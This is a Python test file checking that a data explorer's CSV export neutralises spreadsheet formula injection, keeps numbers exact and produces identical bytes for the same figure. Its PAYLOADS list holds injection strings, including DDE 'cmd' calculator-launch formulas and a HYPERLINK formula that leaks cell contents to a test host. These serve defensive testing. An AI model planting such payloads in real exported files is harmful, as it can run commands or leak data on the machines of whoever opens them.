"""No text that leaves can be taken for a formula; numbers stay numbers, and the same figure gives the same bytes."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explorer.domain.atlas import Atlas
from explorer.domain.observations import Status
from explorer.export.clean import clean_text, neutral_cell
from explorer.export.tables import csv_bytes
from explorer.figures.catalogue import figure
from explorer.figures.figure import Cell, CellKind, Column, Figure, Table
from explorer.state.viewpoint import viewpoint

PAYLOADS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    '=HYPERLINK("http://x.test?"&A1,"open")',
    "=cmd|'/c calc'!A1",
    " =1+1",
    "＝1+1",
    "\u202e=1+1",
    "'=1+1\r\n=2+2",
)
FORMULA = re.compile(r"\s*[=+\-@\t\r\0＝＋－＠]")


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def with_texts(made: Figure, payload: str) -> Figure:
    """Return the figure with a text in every place of its table that can hold one."""
    columns = tuple(replace(one, title=payload, unit=payload) for one in made.table.columns)
    rows = tuple(tuple(replace(cell, text=payload, known=payload) for cell in row) for row in made.table.rows[:2])
    return replace(made, table=Table(columns, rows))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("link", ["timeline", "deliveries"])
def test_no_cell_is_a_formula(atlas: Atlas, link: str, payload: str) -> None:
    made = with_texts(figure(atlas, viewpoint(link)), payload)
    rows = read(csv_bytes(made, atlas))
    assert len({len(row) for row in rows}) == 1
    texts = [cell for row in rows for cell in row if cell]
    assert len(texts) > len(rows)
    for cell in texts:
        assert not FORMULA.match(cell) or is_number(cell), cell
        assert not re.search(r"[\0-\x08\x0b-\x1f\x7f\u202a-\u202e]", cell)


@given(st.text())
def test_neutral_text_starts_no_formula_and_is_neutral_for_good(text: str) -> None:
    cell = neutral_cell(text)
    assert not FORMULA.match(cell) or is_number(cell)
    assert neutral_cell(cell) == cell
    assert "\n" not in cell and "\0" not in cell


@pytest.mark.parametrize("text", ["-5.2", "12", "−3", "CNY −6.48 bn", "–", "AITO 问界", "1e5", "a=b", "'quoted'"])
def test_true_numbers_and_plain_texts_are_left_alone(text: str) -> None:
    assert neutral_cell(text) == text


def test_text_is_cleaned_of_what_is_not_text() -> None:
    assert clean_text("a\tb\r\nc\0\x1b[31md\u202ee") == "a b c[31mde"


def table_of(*rows: tuple[Cell, ...]) -> Table:
    return Table((Column("Month"), Column("Cars", CellKind.NUMBER, "vehicles")), rows)


def test_numbers_are_exact_and_a_missing_one_is_empty(atlas: Atlas) -> None:
    made = figure(atlas, viewpoint("deliveries"))
    rows = (
        (Cell("Jan 2025"), Cell("−5", -5.25)),
        (Cell("Feb 2025"), Cell("–")),
        (Cell("Mar 2025"), Cell("1k", 1000.0)),
    )
    data = csv_bytes(replace(made, table=table_of(*rows)))
    assert data == b'"Month","Cars (vehicles)"\r\n"Jan 2025",-5.25\r\n"Feb 2025",""\r\n"Mar 2025",1000\r\n'


def test_a_bound_leaves_with_its_number(atlas: Atlas) -> None:
    made = figure(atlas, viewpoint("deliveries"))
    rows = read(csv_bytes(made))
    place = rows[0].index("AITO (vehicles)")
    september = next(row for row in rows if row[0] == "Sep 2025")
    assert september[place : place + 2] == ["45000", "rounded, more than"]
    assert rows[0][place + 1] == "AITO, status"


def test_the_numbers_are_those_of_the_table(atlas: Atlas) -> None:
    made = figure(atlas, viewpoint("deliveries"))
    rows = read(csv_bytes(made))
    place = rows[0].index("Total (vehicles)")
    titles = [column.title for column in made.table.columns]
    expected = [row[titles.index("Total")].value for row in made.table.rows]
    assert [float(row[place]) if row[place] else None for row in rows[1:]] == expected


def test_every_row_with_a_number_names_and_cites_its_sources(atlas: Atlas) -> None:
    rows = read(csv_bytes(figure(atlas, viewpoint("deliveries")), atlas))
    sources, cited = rows[0].index("Sources"), rows[0].index("Cited")
    total = rows[0].index("Total (vehicles)")
    for row in rows[1:]:
        if row[total]:
            ids = row[sources].split("; ")
            assert set(ids) <= set(atlas.sources)
            assert atlas.sources[ids[0]].publisher.split()[0] in row[cited]


def test_the_same_figure_gives_the_same_bytes(atlas: Atlas) -> None:
    made = figure(atlas, viewpoint("deliveries"))
    assert csv_bytes(made, atlas) == csv_bytes(replace(made), atlas)
    assert Status.REPORTED.value.encode() in csv_bytes(made)
